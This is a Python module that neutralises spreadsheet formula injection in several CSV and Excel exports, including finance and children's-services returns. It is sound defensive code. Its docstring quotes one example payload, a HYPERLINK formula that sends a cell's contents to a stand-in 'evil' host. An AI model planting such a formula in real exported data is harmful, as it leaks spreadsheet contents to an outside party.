"""Spreadsheet-safe cells for every CSV and spreadsheet export (OWASP "CSV injection").

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some spreadsheet
programs skip before looking) is read by Excel, LibreOffice and Google Sheets as a formula, so a first name such
as ``=HYPERLINK("http://evil/?"&A1,"click")`` would run in a finance officer's spreadsheet. ``safe_cell`` puts a
single quote in front of such text, which spreadsheets show as text. Plain numbers written as text (``-12.50``)
are left alone: they are not formulas and a quote would turn them into text. Other values (numbers, dates,
None) pass through unchanged.

Every export goes through here: the finance CSV (money.views), the SSDA903 CSVs (returns.ssda903: codes, dates
and identifiers, which never begin with these characters, so a valid return is unchanged), Ofsted Annex A
(returns.annex_a; openpyxl would otherwise store such text as a live formula) and the kpis and worklist CSVs.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


class _Writer:
    def __init__(self, inner: Any) -> None:
        self.inner = inner

    def writerow(self, row: Iterable[Any]) -> Any:
        return self.inner.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _DictWriter:
    def __init__(self, inner: csv.DictWriter[str]) -> None:
        self.inner = inner

    def writeheader(self) -> Any:
        return self.inner.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self.inner.writerow({k: safe_cell(v) for k, v in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(f: Any, **kwargs: Any) -> _Writer:
    """``csv.writer`` whose every cell is passed through ``safe_cell``."""
    return _Writer(csv.writer(f, **kwargs))


def dict_writer(f: Any, fieldnames: list[str], **kwargs: Any) -> _DictWriter:
    """``csv.DictWriter`` whose every value is passed through ``safe_cell``."""
    return _DictWriter(csv.DictWriter(f, fieldnames=fieldnames, **kwargs))
